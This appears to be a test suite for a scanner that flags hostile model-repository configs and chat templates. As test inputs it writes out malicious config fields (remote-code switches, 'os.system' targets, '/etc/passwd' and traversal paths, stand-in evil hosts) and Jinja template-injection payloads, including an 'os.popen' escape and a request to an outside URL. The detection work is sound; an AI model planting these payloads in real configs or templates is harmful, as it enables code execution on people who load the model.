"""The checks on configs and chat templates."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scanned_files import judge


def config(folder: Path, value: Any, name: str = "config.json") -> list[tuple[str, str]]:
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    findings, _ = judge("config-code", folder, {name: text})
    return [(finding.rule, finding.severity) for finding in findings]


@pytest.mark.parametrize(
    ("value", "rule", "severity"),
    [
        ({"auto_map": {"AutoModel": "modeling.Net"}}, "HC-CFG-001", "high"),
        ({"text_config": {"deep": [{"auto_map": {"AutoModel": "m.N"}}]}}, "HC-CFG-001", "high"),
        ({"custom_pipelines": {"p": {"impl": "p.P"}}}, "HC-CFG-001", "high"),
        ({"trust_remote_code": True}, "HC-CFG-001", "high"),
        ({"trust_remote_code": 1}, "HC-CFG-001", "high"),
        ({"custom_generate": "org/code"}, "HC-CFG-001", "high"),
        ({"_target_": "os.system"}, "HC-CFG-001", "high"),
        ({"image_processor_type": "org/repo--proc.Proc"}, "HC-CFG-001", "high"),
        ({"auto_mapping": {"parent_library": "os"}}, "HC-CFG-001", "high"),
        ({"pretrained_cfg": {"custom_load": "hf"}}, "HC-CFG-001", "high"),
        ({"_attn_implementation": "evil/kernel"}, "HC-CFG-002", "critical"),
        ({"_attn_implementation_internal": "evil/kernel@main"}, "HC-CFG-002", "critical"),
        ({"attn_implementation": {"vision_config": "evil/kernel"}}, "HC-CFG-002", "critical"),
        ({"vision_config": {"_attn_implementation_internal": "evil/kernel"}}, "HC-CFG-002", "critical"),
        ({"keypoint_detector_config": {"trust_remote_code": True}}, "HC-CFG-002", "critical"),
        ({"pretrained_cfg": {"file": "/etc/passwd"}}, "HC-CFG-003", "high"),
        ({"pretrained_cfg": {"file": "a/../../x.bin"}}, "HC-CFG-003", "high"),
        ({"pretrained_cfg": {"url": "https://evil.example/x.pth"}}, "HC-CFG-003", "high"),
        (
            {"pretrained_cfg": {"url": "https://github.com.evil.example/rwightman/pytorch-image-models/x"}},
            "HC-CFG-003",
            "high",
        ),
        ({"pretrained_cfg": {"hf_hub_id": "evil/model"}}, "HC-CFG-003", "high"),
        ({"hf_hub_id": "evil/model"}, "HC-CFG-003", "high"),
        ({"backbone": "evil/backbone"}, "HC-CFG-003", "high"),
        ({"base_model_name_or_path": "../elsewhere"}, "HC-CFG-003", "high"),
        ({"base_model_name_or_path": "google/vit-base-patch16-224"}, "HC-CFG-003", "high"),
        ({"architecture": "hf-hub:evil/model"}, "HC-CFG-003", "high"),
        ({"vision_config": {"model_args": {"model_name": "local-dir:/etc"}}}, "HC-CFG-003", "high"),
        ({"text_cfg": {"hf_model_name": "evil/roberta"}}, "HC-CFG-003", "high"),
        ({"detector": {"weights_url": "http://evil/x"}}, "HC-CFG-003", "high"),
        ({"odd_library": {"some_file": "a/../../b"}}, "HC-CFG-003", "high"),
        ({"path": "..\\x"}, "HC-CFG-003", "high"),
        ({"transformers_weights": "../../x.safetensors"}, "HC-CFG-003", "high"),
        ({"backbone_config": [{"checkpoint_path": "s3://bucket/x"}]}, "HC-CFG-003", "high"),
        ({"a": float("nan")}, "HC-CFG-005", "medium"),
        (b'{"a": 1e999}', "HC-CFG-005", "medium"),
        (b'{"a": 1, "a": 2}', "HC-CFG-005", "medium"),
        (b'{"b": {"a": 1, "a": 2}}', "HC-CFG-005", "medium"),
        (b"{", "HC-CFG-005", "medium"),
        (b"\xff\xfe{\x00}\x00", "HC-CFG-005", "medium"),
        (b"[" * 100_000, "HC-CFG-005", "medium"),
    ],
)
def test_config_code_sees(tmp_path: Path, value: Any, rule: str, severity: str) -> None:
    assert (rule, severity) in config(tmp_path, value)


@pytest.mark.parametrize(
    "name", ["preprocessor_config.json", "generation_config.json", "adapter_config.json", "x/processor.json"]
)
def test_config_code_sees_every_json_file(tmp_path: Path, name: str) -> None:
    assert config(tmp_path, {"auto_map": {"AutoImageProcessor": "p.P"}}, name) == [("HC-CFG-001", "high")]


def test_config_code_says_what_is_too_deep_or_too_long_is_not_checked(tmp_path: Path) -> None:
    deep: Any = {"auto_map": {"AutoModel": "m.N"}}
    for _ in range(70):
        deep = {"a": deep}
    (tmp_path / "long.json").write_bytes(b" " * (8 << 20) + b"{}")
    findings, verdicts = judge("config-code", tmp_path, {"config.json": json.dumps(deep).encode()})
    states = {path: verdict.state for path, verdict in verdicts.items()}
    assert states == {"config.json": "unchecked", "long.json": "unchecked"}
    assert {finding.rule for finding in findings} == {"HC-CFG-005", "HC-INC-001"}


def test_config_code_sees_a_pipeline_from_the_repos_own_file(tmp_path: Path) -> None:
    index = {"_class_name": ["pipeline", "Evil"], "unet": ["diffusers", "UNet2DModel"], "vae": [None, None]}
    assert config(tmp_path, index, "model_index.json") == [("HC-CFG-001", "high")]


def test_config_code_sees_modules_of_other_packages(tmp_path: Path) -> None:
    rows = [{"type": "sentence_transformers.models.Transformer", "path": ""}, {"type": "custom_st.Net", "path": ""}]
    assert config(tmp_path, rows, "modules.json") == [("HC-CFG-001", "high")]


def test_config_code_sees_what_a_later_key_hides_and_never_calls_broken_json_checked(tmp_path: Path) -> None:
    hidden = b'{"vision": {"auto_map": {"AutoModel": "m.N"}, "auto_map": null}}'
    assert ("HC-CFG-001", "high") in config(tmp_path, hidden)
    for broken in (b"{", b"[" * 100_000, b"{" + b'"a": 1,' * 50 + b'"a": 1}'):
        _, verdicts = judge("config-code", tmp_path, {"config.json": broken})
        assert verdicts["config.json"].state == "unchecked"


@pytest.mark.parametrize(
    ("target", "severity", "hostile"),
    [
        ("src.models.Net", "medium", False),
        ("DenseNet121", "medium", False),
        ("torchvision.models.resnet18", "medium", False),
        ("acme.build", "high", False),
        ("builtins.eval", "high", True),
        ("eval", "high", True),
        ("torch.hub.load", "high", True),
        ("acme.Net.__init__", "high", True),
    ],
)
def test_a_target_is_as_grave_as_what_it_makes(tmp_path: Path, target: str, severity: str, hostile: bool) -> None:
    body = json.dumps({"net": [{"_target_": target}]}).encode()
    (row,) = judge("config-code", tmp_path, {"configs/train.json": body})[0]
    assert (row.rule, row.severity, row.hostile) == ("HC-CFG-001", severity, hostile)


CLEAN_CONFIG = {
    "_name_or_path": "google/vit-base-patch16-224-in21k",
    "architectures": ["ViTForImageClassification"],
    "auto_map": None,
    "trust_remote_code": False,
    "_attn_implementation": "sdpa",
    "_attn_implementation_autoset": True,
    "kernel_size": [3, 3],
    "id2label": {"0": "url", "1": "n01440764 tench/fish", "2": "../x"},
    "label2id": {"url": 0, "auto_map": 1, "trust_remote_code": 2},
    "pretrained_cfg": {
        "custom_load": False,
        "url": "",
        "file": None,
        "hf_hub_id": "timm/resnet18.a1_in1k",
        "source": "hf-hub",
        "origin_url": "https://github.com/facebookresearch/deit",
    },
    "backbone": "resnet50",
    "use_pretrained_backbone": False,
    "layer_norm_eps": 1e-12,
}


def test_config_code_leaves_honest_configs_alone(tmp_path: Path) -> None:
    files = {
        "config.json": json.dumps(CLEAN_CONFIG).encode(),
        "vocab.json": b'{"auto_map": 1, "url": 2, "trust_remote_code": 3}',
        "results.json": b'{"url": "https://wandb.ai/x", "file": "images/cat.png"}',
    }
    findings, verdicts = judge("config-code", tmp_path, files)
    assert findings == []
    assert {path: verdict.state for path, verdict in verdicts.items()} == dict.fromkeys(files, "ok")


def test_config_code_notes_old_timm_fields_below_the_gate(tmp_path: Path) -> None:
    release = "https://github.com/rwightman/pytorch-image-models/releases/download/v0.1-rsb-weights/resnet50_a1_0-14fe96d1.pth"
    assert config(tmp_path, {"url": release, "custom_load": True}) == [("HC-CFG-003", "low"), ("HC-CFG-001", "low")]


KEYS = ["auto_map", "url", "_target_", "trust_remote_code", "kernel", "file", "a", ""]
VALUES = ["a/b", "../a", "x--y.Z", "http://a", "é\u202e"]
trees = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.sampled_from(VALUES),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=4),
    max_leaves=15,
)


@settings(max_examples=100, deadline=None)
@given(trees, st.booleans())
def test_config_code_sees_a_planted_field_in_any_tree(tree: Any, listed: bool) -> None:
    from hubclean.scanning.scanners.config_code import walk_config

    planted: Any = {"a": [tree, {"b": {"_attn_implementation": ["x/y"] if listed else "x/y"}}]}
    assert any("_attn_implementation" in path and value == "x/y" for path, value in walk_config(planted))
    assert all(isinstance(part, str) for path, _ in walk_config(planted) for part in path)


@settings(max_examples=60, deadline=None)
@given(tree=trees)
def test_config_code_says_ok_or_why_not_of_any_tree(tree: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    findings, verdicts = judge(
        "config-code", tmp_path_factory.mktemp("tree"), {"config.json": json.dumps(tree).encode()}
    )
    assert not any("the check failed" in verdict.reason for verdict in verdicts.values())
    assert {finding.rule for finding in findings} <= {"HC-CFG-001", "HC-CFG-002", "HC-CFG-003", "HC-CFG-005"}


HONEST = (
    "{%- for message in messages %}{% if loop.first and message['role'].strip() == 'user' %}{{ raise_exception('no') }}"
    "{% endif %}{% generation %}{{ message.content | trim | tojson }}{% endgeneration %}{% break %}{% endfor %}"
    "{{ roles['tool_' ~ message['role']|lower] }}{{ names[message.name.strip()] }}{{ messages[loop.index0|int] }}"
    "{% macro show(x) %}{{ x.items() | list }}{% endmacro %}{{ show(tools) }}{% set ns = namespace(a=1) %}"
)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ x['__globals__'] }}",
        "{{ x | attr('a') }}",
        "{{ x | map(attribute='__class__') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ os.popen('id') }}",
        "{{ self._TemplateReference__context }}",
        "{% include 'x' %}",
        "{{ x[0](1) }}",
        "{{ x['_' ~ '_class_' ~ '_'] }}",
        "{{ x['%c%c'|format(95, 95)] }}",
        "{{ x[['_', '_', 'class', '_', '_']|join] }}",
        "{{ requests.post('http://x', y) }}",
        "{{ lipsum() }}",
        "{% if %}",
        "{{ " + "(" * 2000,
        "{{ 1 }}" * 60_000,
    ],
)
def test_chat_templates_sees(tmp_path: Path, template: str) -> None:
    body = json.dumps({"chat_template": [{"name": "default", "template": template}]}).encode()
    findings, _ = judge("chat-templates", tmp_path, {"tokenizer_config.json": body})
    assert {(finding.rule, finding.severity) for finding in findings} == {("HC-CFG-004", "high")}


def test_chat_templates_reads_defaults_too(tmp_path: Path) -> None:
    body = json.dumps({"a": {"default_chat_template": "{{ x.__class__ }}"}}).encode()
    findings, _ = judge("chat-templates", tmp_path, {"tokenizer_config.json": body})
    assert [finding.rule for finding in findings] == ["HC-CFG-004"]


def test_chat_templates_reads_jinja_files(tmp_path: Path) -> None:
    findings, _ = judge("chat-templates", tmp_path, {"chat_template.jinja": b"{{ x.__class__ }}"})
    assert [finding.rule for finding in findings] == ["HC-CFG-004"]


def test_chat_templates_leaves_honest_templates_alone(tmp_path: Path) -> None:
    body = json.dumps({"chat_template": HONEST, "other": "{{ x.__class__ }}"}).encode()
    findings, verdicts = judge(
        "chat-templates", tmp_path, {"processor_config.json": body, "chat.jinja": HONEST.encode()}
    )
    assert findings == []
    assert verdicts["chat.jinja"].state == "ok"
